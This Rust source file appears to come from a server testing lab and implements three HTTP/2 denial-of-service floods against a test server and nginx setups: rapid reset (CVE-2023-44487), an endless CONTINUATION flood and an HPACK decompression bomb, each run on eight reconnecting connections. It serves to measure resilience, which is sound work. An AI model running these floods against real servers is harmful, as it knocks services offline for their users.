//! `hostile/frame-floods`: rapid reset, endless CONTINUATION frames, and small HPACK blocks that decode to large ones.

use std::error::Error;
use std::io;

use super::{NGINX, NGINX_LIMIT_REQ, NGINX_LIMITED, SOFTCLOCK};
use crate::lab::hostile::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, MAX_WINDOW, RST_STREAM, field, frame,
    get_block, opening, request,
};
use crate::lab::hostile::link::{Link, again_and_again};
use crate::lab::hostile::subject::Subject;
use crate::lab::hostile::table;
use crate::lab::hostile::tally::Tally;
use crate::lab::hostile::trial::{Case, Ground};
use crate::output::report::{Context, Experiment, Report, Takes};

/// The experiment.
pub const EXPERIMENT: Experiment = Experiment {
    name: "hostile/frame-floods",
    about: "HTTP/2 rapid reset, CONTINUATION flood and HPACK bombs on 8 connections",
    takes: Takes::Rounds,
    run,
};

type Flood = fn(&mut Link<'_>, &Tally) -> io::Result<()>;

fn run(context: &Context) -> Result<Report, Box<dyn Error>> {
    let floods: [(&str, &str, Flood, Vec<Subject>); 3] = [
        (
            "rapid reset",
            "requests",
            rapid_reset,
            vec![SOFTCLOCK, NGINX, NGINX_LIMIT_REQ, NGINX_LIMITED],
        ),
        (
            "CONTINUATION flood",
            "frames",
            continuation,
            vec![SOFTCLOCK, NGINX],
        ),
        (
            "HPACK bombs",
            "requests",
            hpack_bomb,
            vec![SOFTCLOCK, NGINX, NGINX_LIMIT_REQ],
        ),
    ];
    let cases = floods.map(|(name, units, flood, subjects)| Case {
        name: format!("{name} on 8 connections"),
        attack: Box::new(move |against| {
            again_and_again(against, |link| flood(link, against.tally));
        }),
        threads: 8,
        units,
        subjects,
        ground: Ground::Files,
    });
    let title = "floods of HTTP/2 requests that are taken back or never end";
    table::report(context, title, cases.into(), &NOTES)
}

/// Sends requests and cancels each immediately (rapid reset, CVE-2023-44487).
fn rapid_reset(link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
    link.send(&opening(MAX_WINDOW))?;
    let block = get_block("/small.html", []);
    let mut stream = 1;
    while tally.goes_on() && stream < MAX_WINDOW - 2 * BATCH {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            batch.extend(request(stream, &block));
            batch.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
            stream += 2;
        }
        link.send(&batch)?;
        tally.units.add(BATCH as usize);
    }
    Ok(())
}

/// Sends a request whose field section never ends (CVE-2024-24549 and others).
fn continuation(link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
    link.send(&opening(MAX_WINDOW))?;
    let block = get_block("/small.html", []);
    link.send(&frame(HEADERS, END_STREAM, 1, &block))?;
    let mut fields = Vec::new();
    for number in 0..50 {
        field(&mut fields, 0x00, &format!("x{number:04}"), "1");
    }
    let more = frame(CONTINUATION, 0, 1, &fields);
    while tally.goes_on() {
        link.send(&more)?;
        tally.units.add(1);
    }
    Ok(())
}

/// Sends requests that refer 8000 times, with one byte each, to a field of 4 KB in the dynamic table.
fn hpack_bomb(link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
    link.send(&opening(MAX_WINDOW))?;
    let mut first = get_block("/small.html", []);
    // With its name and the 32 bytes that count for each entry (RFC 7541, 4.1) the field just fits into the table of
    // 4096 bytes.
    field(&mut first, 0x40, "bomb", &"a".repeat(4096 - 4 - 32));
    link.send(&request(1, &first))?;
    let mut bomb = get_block("/small.html", []);
    bomb.extend([FIRST_DYNAMIC; 8000]);
    let mut stream = 3;
    while tally.goes_on() {
        link.send(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb))?;
        tally.units.add(1);
        stream += 2;
    }
    Ok(())
}

/// The error code `CANCEL` (RFC 9113, section 7).
const CANCEL: u32 = 0x8;

/// An indexed field that refers to the first entry after the static table (RFC 7541, section 6.1).
const FIRST_DYNAMIC: u8 = 0x80 | 62;

/// Requests per send.
const BATCH: u32 = 100;

const NOTES: [&str; 2] = [
    "nginx's limits here are on by default: keepalive_requests 1000, http2_max_concurrent_streams 128, \
     large_client_header_buffers 4 8k; limit_req and limit_conn are what its makers advise against rapid reset besides",
    "an attacker whose connection is ended makes another after 100 ms, with a handshake of TLS 1.3, which is what is left of \
     the attack then",
];
